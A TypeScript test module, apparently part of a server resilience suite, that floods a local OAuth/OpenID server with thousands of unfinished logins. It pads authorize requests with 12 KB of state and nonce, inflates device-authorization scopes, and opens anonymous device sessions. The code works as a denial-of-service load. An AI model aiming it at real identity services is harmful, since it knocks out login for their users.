// Thousands of started logins of the maximum size that are never finished.

import { once } from 'node:events';
import { Agent, request } from 'node:http';
import type { Attack } from '../attack.ts';

const LOGINS = { short: 900, full: 20_000 };
/** Number of concurrent requests. */
const CONNECTIONS = 20;

const AUTHORIZE = `/oauth/v2/authorize?${new URLSearchParams({
  response_type: 'code',
  client_id: '264062497181469540',
  redirect_uri: 'http://localhost:5173/callback',
  scope: 'openid',
  code_challenge: 'x'.repeat(43),
  code_challenge_method: 'S256',
  state: 's'.repeat(6000),
  nonce: 'n'.repeat(6000),
})}`;
const DEVICE = `client_id=314607173831297892&scope=openid${'+x'.repeat(6000)}`;

export const loginsNobodyEnds: Attack = {
  title: 'thousands of unfinished logins with 12 KB of state and nonce, device logins, and anonymous sessions',
  async run({ port }, size) {
    const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS });
    const send = async (path: string, form?: string) => {
      const headers = { 'content-type': 'application/x-www-form-urlencoded' };
      const sending = request({ agent, port, host: '127.0.0.1', path, ...(form && { method: 'POST', headers }) });
      sending.end(form);
      const [response] = await once(sending, 'response');
      response.resume();
      await once(response, 'end');
    };
    const kinds = [() => send(AUTHORIZE), () => send('/oauth/v2/device_authorization', DEVICE), () => send('/device')];
    let left = LOGINS[size];
    const client = async () => {
      while (left > 0) {
        left -= 1;
        await kinds[left % kinds.length]?.();
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, client));
    agent.destroy();
    return LOGINS[size];
  },
};
